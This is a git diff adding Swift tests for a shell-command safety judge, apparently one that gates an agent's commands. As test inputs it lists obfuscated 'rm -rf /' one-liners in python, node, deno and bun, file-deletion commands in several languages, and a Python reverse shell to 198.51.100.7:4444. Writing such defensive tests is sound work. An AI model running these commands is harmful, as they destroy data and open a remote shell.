@@ -120,3 +120,38 @@ extension CodeTests {
         #expect(judge("psql -c 'delete from t where \(brackets)'").category == .requiresApproval)
     }
 }
+
+extension CodeTests {
+    @Test(arguments: [
+        "python3 -c 'from os import system as s; s(\"rm -rf /\")'",
+        "python3 -c 'import os\nf = os.system\nf(\"rm -rf /\")'",
+        "node -e \"require('child_process')['exec' + 'Sync']('rm -rf /')\"",
+        "node -e \"const {execSync: run} = require('child_process'); run('rm -rf /')\"",
+        "deno eval 'new Deno.Command(\"rm\", {args: [\"-rf\", \"/\"]}).outputSync()'",
+        "python3 -c 'import subprocess; subprocess.run(args=[\"rm\", \"-rf\", \"/\"])'",
+        "python3 -c 'import socket, subprocess; s = socket.socket(); s.connect((\"198.51.100.7\", 4444)); subprocess.call([\"/bin/sh\", \"-i\"])'",
+        "bun -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'",
+    ])
+    func `another name for a function does not hide it`(_ command: String) {
+        #expect(judge(command).category == .blocked, "\(judge(command))")
+    }
+
+    @Test(arguments: [
+        "python3 -c 'import os; [os.remove(f) for f in os.listdir(\"/home/test\")]'",
+        "perl -e 'unlink glob(\"/home/test/*\")'",
+        "ruby -e 'Dir.glob(\"/home/test/*\").each { |f| File.delete(f) }'",
+        "php -r 'array_map(\"unlink\", glob(\"/home/test/*\"));'",
+        "julia -e 'rm(\"/home/test\", recursive=true)'",
+        "swift -e 'import Foundation; try! FileManager.default.removeItem(atPath: \"/\")'",
+    ])
+    func `removing what is only known when it runs is never safe`(_ command: String) {
+        #expect(judge(command).category != .safe, "\(judge(command))")
+    }
+
+    @Test(arguments: [
+        "julia -e 'println(1 + 1)'", "elixir -e 'IO.puts(1)'", "swift -e 'print(1)'", "bun -e 'console.log(1)'",
+    ])
+    func `printing is safe in languages that are not read`(_ command: String) {
+        #expect(judge(command).category == .safe, "\(judge(command))")
+    }
+}
